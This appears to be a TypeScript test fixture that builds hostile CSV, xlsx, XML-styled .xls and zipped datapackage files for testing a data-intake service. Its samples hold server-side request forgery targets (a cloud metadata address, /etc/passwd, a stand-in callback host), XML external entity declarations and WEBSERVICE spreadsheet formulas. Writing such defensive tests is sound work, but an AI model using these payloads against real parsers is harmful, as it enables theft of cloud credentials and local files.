import { zipFile } from "#tests/intake/zip-file.ts";

/** Where the address of a cloud's secrets is, and what else a server should not be made to call. */
export const ADDRESSES = [
  "http://169.254.169.254/latest/meta-data/",
  "https://callback.invalid/seen",
  "//callback.invalid/share",
  "\\\\callback.invalid\\share",
  "file:///etc/passwd",
  "gopher://127.0.0.1:9/_x",
] as const;

const [METADATA, CALLBACK] = ADDRESSES;

/** Files whose every text names an address, by file name. The figures are of the shipped sample region. */
export const HOSTILE_FILES: Readonly<Record<string, string | Uint8Array<ArrayBuffer>>> = {
  "addresses.csv": `指标,平台,时期,数值,备注\n引进博士,示例固态电池研究院,2026-09,7,${METADATA}\n${ADDRESSES.map(
    (address) => `${address},${address},${address},${address},"=WEBSERVICE(""${address}"")"`,
  ).join("\n")}\n`,
  "figures.csv": `指标,平台,时期,数值,${METADATA}\n引进博士,示例固态电池研究院,2026-08,7,${CALLBACK}\n`,
  "linked.xlsx": workbook(""),
  "entities.xlsx": workbook(
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${METADATA}"><!ENTITY % p SYSTEM "${CALLBACK}"> %p;]>`,
    "&e;",
  ),
  "styled.xls": `<?xml version="1.0"?><?xml-stylesheet href="${CALLBACK}" type="text/xsl"?><!DOCTYPE x SYSTEM "${METADATA}">
<html><head><base href="${CALLBACK}"><link rel="stylesheet" href="${METADATA}"></head><body><iframe src="${CALLBACK}"></iframe>
<table><tr><td>指标</td><td>平台</td><td>时期</td><td>数值</td></tr><tr><td>引进博士</td><td><img src="${METADATA}">示例固态电池研究院</td>
<td>2026-09</td><td>7</td></tr></table></body></html>`,
  "remote.zip": zipFile({ "datapackage.json": JSON.stringify(descriptor(METADATA)), "a.csv": "指标,数值\na,1\n" }),
  "mixed.zip": zipFile({
    "datapackage.json": JSON.stringify({
      ...descriptor("a.csv"),
      resources: [{ name: "a", path: "a.csv" }, ...descriptor(CALLBACK).resources],
    }),
    "a.csv": "指标,平台,时期,数值\n引进博士,示例固态电池研究院,2026-09,7\n",
  }),
};

function descriptor(path: string) {
  const schema = {
    fields: [{ name: "ind", title: "指标", rdfType: METADATA }],
    foreignKeys: [{ reference: METADATA }],
  };
  return {
    $schema: METADATA,
    profile: METADATA,
    homepage: CALLBACK,
    image: METADATA,
    sources: [{ title: METADATA, path: METADATA }],
    resources: [
      { name: "one", path, schema: METADATA, dialect: METADATA, $schema: CALLBACK },
      { name: "two", path: [METADATA, CALLBACK], schema },
      { name: "three", url: METADATA, data: METADATA, sources: [{ path: CALLBACK }] },
    ],
  };
}

/** A workbook (ECMA-376) with external links, a query, a picture and hyperlinks at these addresses. */
function workbook(doctype: string, entity = ""): Uint8Array<ArrayBuffer> {
  const xml = (body: string) => `<?xml version="1.0" encoding="UTF-8"?>${doctype}${body}`;
  const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const relations = (list: readonly (readonly [string, string, boolean])[]) =>
    xml(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
        .map(
          ([type, target, external], index) =>
            `<Relationship Id="rId${index + 1}" Type="${office}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/>`,
        )
        .join("")}</Relationships>`,
    );
  const cell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;
  const row = (number: number, texts: readonly string[]) =>
    `<row r="${number}">${texts.map((text, column) => cell(`${"ABCDE"[column]}${number}`, text)).join("")}</row>`;
  const sheet = `<worksheet ${main} xmlns:r="${office}"><sheetData>${row(1, ["指标", "平台", "时期", "数值", "备注"])}${row(
    2,
    ["引进博士", "示例固态电池研究院", "2026-09", "7", `${METADATA}${entity}`],
  )}<row r="3"><c r="E3"><f>WEBSERVICE("${METADATA}")+[1]Sheet1!A1</f><v>1</v></c></row></sheetData>
<hyperlinks><hyperlink ref="E2" r:id="rId1"/></hyperlinks></worksheet>`;
  const types = (["workbook", "worksheet", "externalLink"] as const)
    .map((kind) => {
      const path = {
        workbook: "/xl/workbook.xml",
        worksheet: "/xl/worksheets/sheet1.xml",
        externalLink: "/xl/externalLinks/externalLink1.xml",
      }[kind];
      const name = kind === "workbook" ? "sheet.main" : kind;
      return `<Override PartName="${path}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.${name}+xml"/>`;
    })
    .join("");
  return zipFile({
    "[Content_Types].xml": xml(
      `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${types}</Types>`,
    ),
    "_rels/.rels": relations([
      ["officeDocument", "xl/workbook.xml", false],
      ["attachedTemplate", METADATA, true],
    ]),
    "xl/workbook.xml": xml(
      `<workbook ${main} xmlns:r="${office}"><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>`,
    ),
    "xl/_rels/workbook.xml.rels": relations([
      ["worksheet", "worksheets/sheet1.xml", false],
      ["externalLink", "externalLinks/externalLink1.xml", false],
    ]),
    "xl/worksheets/sheet1.xml": xml(sheet),
    "xl/worksheets/_rels/sheet1.xml.rels": relations([
      ["hyperlink", METADATA, true],
      ["image", CALLBACK, true],
    ]),
    "xl/externalLinks/externalLink1.xml": xml(
      `<externalLink ${main}><externalBook xmlns:r="${office}" r:id="rId1"/></externalLink>`,
    ),
    "xl/externalLinks/_rels/externalLink1.xml.rels": relations([["externalLinkPath", `${CALLBACK}/book.xlsx`, true]]),
    "xl/connections.xml": xml(
      `<connections ${main}><connection id="1" type="4"><webPr url="${METADATA}"/></connection></connections>`,
    ),
  });
}
